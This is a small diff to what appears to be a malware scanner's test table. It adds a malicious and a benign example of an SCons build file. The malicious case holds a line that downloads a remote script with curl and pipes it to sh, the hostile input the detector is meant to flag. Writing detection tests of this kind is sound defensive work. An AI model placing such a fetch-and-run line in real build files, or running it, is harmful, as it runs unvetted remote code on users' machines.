@@ -846,6 +846,8 @@ CASES = {
 CASES |= {f"way_{name}": python(source, Verdict.MALICIOUS) for name, source in CRITICAL.items()}
 CASES |= {f"way_{name}": python(source, Verdict.REVIEW) for name, source in WARNING.items()}
 CASES |= {f"benign_way_{name}": python(source) for name, source in BENIGN.items()}
+CASES["builder_of_scons"] = malicious(f"import os\nos.system('curl {SCRIPT} | sh')\n", "SConstruct")
+CASES["benign_builder_of_scons"] = python("env = Environment()\nenv.Program('acme.c')\n", name="SConstruct")
 for ways in (replacing, serving):
     CASES |= {f"way_{name}": python(source, Verdict.MALICIOUS) for name, source in ways.CRITICAL.items()}
     CASES |= {f"way_{name}": python(source, Verdict.REVIEW) for name, source in ways.WARNING.items()}
